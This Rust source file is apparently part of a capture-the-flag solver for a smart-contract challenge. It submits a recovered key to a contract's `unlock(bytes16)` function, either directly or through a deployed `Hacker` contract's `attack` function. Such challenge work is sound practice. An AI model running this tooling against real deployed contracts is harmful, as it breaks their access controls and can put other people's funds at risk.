use alloy_primitives::{Address, Bytes};
use async_trait::async_trait;

use crate::onchain::helpers::{encode_address, encode_bytes16, encode_call};
use crate::onchain::{selectors, CallOutcome, Ledger, TransportError};
use crate::word::ExtractedValue;

/// Submits recovered key material to the guarded function.
#[async_trait]
pub trait Unlocker: Send + Sync {
    /// Send `key` to unlock `target`, as `sender`.
    async fn unlock(
        &self,
        ledger: &dyn Ledger,
        target: Address,
        key: &ExtractedValue,
        sender: Address,
    ) -> Result<CallOutcome, TransportError>;

    /// Short description for logs.
    fn describe(&self) -> String;
}

/// Calls `unlock(bytes16)` on the target directly.
#[derive(Debug, Clone, Copy, Default)]
pub struct DirectUnlock;

impl DirectUnlock {
    /// Calldata of `unlock(bytes16(key))`.
    pub fn calldata(key: &ExtractedValue) -> Bytes {
        encode_call(selectors::unlock(), &[encode_bytes16(key.to_bytes16())])
    }
}

#[async_trait]
impl Unlocker for DirectUnlock {
    async fn unlock(
        &self,
        ledger: &dyn Ledger,
        target: Address,
        key: &ExtractedValue,
        sender: Address,
    ) -> Result<CallOutcome, TransportError> {
        ledger.submit_call(target, Self::calldata(key), sender).await
    }

    fn describe(&self) -> String {
        "direct unlock(bytes16)".into()
    }
}

/// Goes through a deployed `Hacker` contract: `attack(address,bytes16)`.
#[derive(Debug, Clone, Copy)]
pub struct ProxyUnlock {
    pub hacker: Address,
}

impl ProxyUnlock {
    pub fn new(hacker: Address) -> Self {
        Self { hacker }
    }

    /// Calldata of `attack(target, bytes16(key))`.
    pub fn calldata(target: Address, key: &ExtractedValue) -> Bytes {
        encode_call(
            selectors::attack(),
            &[encode_address(target), encode_bytes16(key.to_bytes16())],
        )
    }
}

#[async_trait]
impl Unlocker for ProxyUnlock {
    async fn unlock(
        &self,
        ledger: &dyn Ledger,
        target: Address,
        key: &ExtractedValue,
        sender: Address,
    ) -> Result<CallOutcome, TransportError> {
        ledger.submit_call(self.hacker, Self::calldata(target, key), sender).await
    }

    fn describe(&self) -> String {
        format!("attack(address,bytes16) via {}", self.hacker)
    }
}
